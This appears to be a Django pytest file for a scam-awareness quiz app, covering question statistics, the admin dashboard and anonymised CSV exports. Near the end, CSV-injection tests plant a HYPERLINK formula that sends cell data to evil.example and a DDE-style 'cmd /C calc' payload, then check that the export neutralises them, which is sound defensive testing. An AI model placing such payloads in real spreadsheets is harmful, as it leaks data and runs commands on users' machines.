"""Statistics on a small hand-made dataset whose numbers are worked out below.

Four questions, 20 learners, everyone's first run answers all four:
- weak learners 1-5:      Q1 right (B), Q2 wrong, Q3 wrong, Q4 wrong  -> 1/4
- middle learners 6-15:   Q1 right (B), Q2 right, Q3 wrong, Q4 wrong  -> 2/4
- strong learners 16-20:  Q1 wrong (C), Q2 right, Q3 right, Q4 right  -> 3/4
Then learner 1 retries Q1 (wrong, run left unfinished) and learner 20 retakes the quiz
with everything right. The lower 27% are learners 1-5, the upper 27% learners 16-20.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils.html import escape

from quizzes import stats
from quizzes.models import Learner

from .conftest import sign_in_officer
from .factories import ChoiceFactory, LessonFactory, QuestionFactory, RedFlagFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def dataset():
    lesson = LessonFactory(slug="stats-lesson")
    flag_one = RedFlagFactory(slug="flag-one", title_en="Flag one")
    flag_two = RedFlagFactory(slug="flag-two", title_en="Flag two")
    questions = []
    for n in range(1, 5):
        question = QuestionFactory(lesson=lesson, slug=f"q{n}", position=n, choices=False)
        labels = "ABC" if n == 1 else "RW"
        for position, label in enumerate(labels, 1):
            ChoiceFactory(
                question=question,
                position=position,
                text_en=label,
                is_correct=label in ("B", "R"),
            )
        questions.append(question)
    questions[0].red_flags.set([flag_one])
    questions[1].red_flags.set([flag_two])
    questions[2].red_flags.set([flag_two])

    def pick(question, label):
        return question.choices.get(text_en=label)

    plans = {
        "weak": ["B", "W", "W", "W"],
        "middle": ["B", "R", "W", "W"],
        "strong": ["C", "R", "R", "R"],
    }
    learners = []
    for n in range(1, 21):
        plan = plans["weak" if n <= 5 else "middle" if n <= 15 else "strong"]
        learner = Learner.objects.create()
        run = learner.start_run(lesson)
        for rq, label in zip(run.run_questions.order_by("position"), plan, strict=True):
            run.record_answer(rq, pick(rq.question, label))
        learners.append(learner)
    retry = learners[0].start_run(lesson)
    retry.record_answer(retry.run_questions.get(position=1), pick(questions[0], "A"))
    retake = learners[-1].start_run(lesson)
    for rq, label in zip(retake.run_questions.order_by("position"), "BRRR", strict=True):
        retake.record_answer(rq, pick(rq.question, label))
    return lesson


def by_slug(items):
    return {item.question.slug: item for item in items}


def test_question_statistics(dataset):
    q = by_slug(stats.question_stats())

    assert [(q[s].attempts, q[s].learners, q[s].first_attempts) for s in sorted(q)] == [
        (22, 20, 20),
        (21, 20, 20),
        (21, 20, 20),
        (21, 20, 20),
    ]
    assert [q[s].facility for s in sorted(q)] == [0.75, 0.75, 0.25, 0.25]
    assert [q[s].discrimination for s in sorted(q)] == [-1.0, 1.0, 1.0, 1.0]
    assert [round(c.share, 2) for c in q["q1"].choices] == [0.0, 0.75, 0.25]
    assert [c.upper for c in q["q1"].choices] == [0, 0, 5]


def test_odd_questions_need_checking(dataset):
    q = by_slug(stats.question_stats())

    assert q["q1"].problems == [
        "negative discrimination",
        "strong learners prefer a wrong choice",
    ]
    assert [s for s in sorted(q) if q[s].needs_checking] == ["q1"]


def test_lesson_statistics(dataset):
    (lesson,) = [item for item in stats.lesson_stats() if item.lesson == dataset]

    assert (lesson.started, lesson.completed, lesson.mastered) == (20, 20, 1)
    # finished runs: 5 x 1/4, 10 x 2/4, 5 x 3/4 and the retake's 4/4
    assert lesson.average == pytest.approx(11 / 21)


def test_red_flag_recognition(dataset):
    flags = {
        f.flag.slug: (f.seen, f.recognised)
        for f in stats.red_flag_stats(stats.question_stats())
        if f.seen
    }

    assert flags == {"flag-one": (20, 15), "flag-two": (40, 20)}


def test_a_date_range_without_answers_counts_nothing(dataset):
    q = by_slug(stats.question_stats(datetime.date(2001, 1, 1), datetime.date(2001, 12, 31)))

    assert {(item.attempts, item.first_attempts) for item in q.values()} == {(0, 0)}


def test_too_few_learners_give_no_discrimination(lesson):
    learner = Learner.objects.create()
    run = learner.start_run(lesson)
    rq = run.run_questions.first()
    run.record_answer(rq, rq.question.choices.first())

    item = by_slug(stats.question_stats())["q1"]

    assert (item.first_attempts, item.discrimination, item.needs_checking) == (1, None, False)


def test_dashboard_shows_the_tables(client, dataset, superuser):
    sign_in_officer(client, superuser)

    content = client.get(reverse("admin:quizzes_statistics")).content.decode()

    assert "Questions that need checking" in content
    q1 = dataset.questions.get(slug="q1")
    assert f"{escape(q1)}</a>: negative discrimination" in content
    assert "-1.00" in content and "75%" in content
    assert '<svg class="bar-chart" role="img"' in content


def test_dashboard_rejects_a_backwards_date_range(client, superuser):
    sign_in_officer(client, superuser)

    response = client.get(reverse("admin:quizzes_statistics") + "?start=2026-02-01&end=2026-01-01")

    assert "The start date must come before the end date." in response.content.decode()


def csv_lines(response):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel and WPS read Chinese
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_question_csv(client, dataset, superuser):
    sign_in_officer(client, superuser)

    lines = csv_lines(client.get(reverse("admin:quizzes_statistics_csv")))

    assert lines[0] == [
        "Lesson",
        "Question",
        "Short name",
        "Channel",
        "Scam or genuine",
        "Attempts",
        "Learners",
        "First attempts",
        "Facility (%)",
        "Discrimination",
        "Needs checking",
        "Choice 1",
        "Choice 1: share of first attempts (%)",
        "Choice 2",
        "Choice 2: share of first attempts (%)",
        "Choice 3",
        "Choice 3: share of first attempts (%)",
    ]
    assert lines[1] == [
        dataset.title,
        "Your parcel is lost. Add our claims account to get 300 yuan back.",
        "q1",
        "Text message",
        "Scam",
        "22",
        "20",
        "20",
        "75.0",
        "-1.000",
        "negative discrimination; strong learners prefer a wrong choice",
        "A",
        "0.0",
        "B (right)",
        "75.0",
        "C",
        "25.0",
    ]
    assert lines[2][-2:] == ["", ""]  # two choices: the third pair stays empty


def test_question_csv_speaks_the_officer_s_language(client, dataset, superuser):
    sign_in_officer(client, superuser)
    client.cookies["django_language"] = "zh-hans"

    lines = csv_lines(client.get(reverse("admin:quizzes_statistics_csv")))

    assert lines[0][:3] == ["课程", "题目", "简称"]
    assert lines[1][0] == dataset.title_zh_hans
    assert lines[1][1] == "您的包裹丢失。添加理赔账号即可获赔300元。"
    assert lines[1][3:5] == ["短信", "诈骗"]


def test_answers_csv_is_anonymised(client, dataset, superuser):
    dataset_user = superuser
    Learner.objects.filter(pk=Learner.objects.first().pk).update(user=dataset_user)
    sign_in_officer(client, superuser)

    response = client.get(reverse("admin:quizzes_answers_csv"))
    lines = csv_lines(response)
    body = str(lines)

    assert lines[0] == [
        "Answer",
        "Learner (pseudonym)",
        "Quiz (pseudonym)",
        "Lesson",
        "Question short name",
        "Question",
        "Choice",
        "Right",
        "First attempt",
        "Answered at (Asia/Shanghai)",
    ]
    assert len(lines) == 1 + 22 + 21 * 3
    assert superuser.username not in body
    learners = {line[1] for line in lines[1:]}
    assert len(learners) == 20 and all(len(code) == 16 for code in learners)


def test_answers_csv_gives_local_times(client, lesson, superuser):
    from quizzes.models import Answer

    from .factories import AnswerFactory

    answer = AnswerFactory(question=lesson.questions.first())
    utc = datetime.datetime(2026, 3, 1, 23, 30, tzinfo=datetime.UTC)
    Answer.objects.filter(pk=answer.pk).update(answered_at=utc)
    sign_in_officer(client, superuser)

    lines = csv_lines(client.get(reverse("admin:quizzes_answers_csv")))

    assert lines[1][-1] == "2026-03-02 07:30:00"  # Beijing time, the next morning
    assert lines[1][6] == answer.choice.text_en


def test_text_an_author_typed_never_runs_as_a_formula_in_a_spreadsheet(client, dataset, superuser):
    """CSV injection: Excel and WPS read a cell that begins with "=", "+", "-" or "@" as
    a formula, and a formula can send the sheet's data to another site."""
    question = dataset.questions.get(slug="q1")
    question.body_en = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    question.save()
    question.choices.filter(position=1).update(text_en="@SUM(1+1)*cmd|' /C calc'!A0")
    sign_in_officer(client, superuser)

    questions = csv_lines(client.get(reverse("admin:quizzes_statistics_csv")))
    answers = csv_lines(client.get(reverse("admin:quizzes_answers_csv")))

    row = next(line for line in questions if line[2] == "q1")
    assert row[1] == "'" + question.body_en
    assert row[11] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[9] == "-1.000"  # the numbers the export writes stay numbers
    typed = {cell for line in answers for cell in line if "evil" in cell or "SUM" in cell}
    assert typed and all(cell.startswith("'") for cell in typed)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-rm", "'-rm"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("-3", "-3"),
        ("+5", "+5"),
        ("-1.000", "-1.000"),
        ("-3 … +8", "-3 … +8"),
        ("40%", "40%"),
        ("Plain text", "Plain text"),
        (12, 12),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, written):
    from quizzes.spreadsheets import cell

    assert cell(value) == written
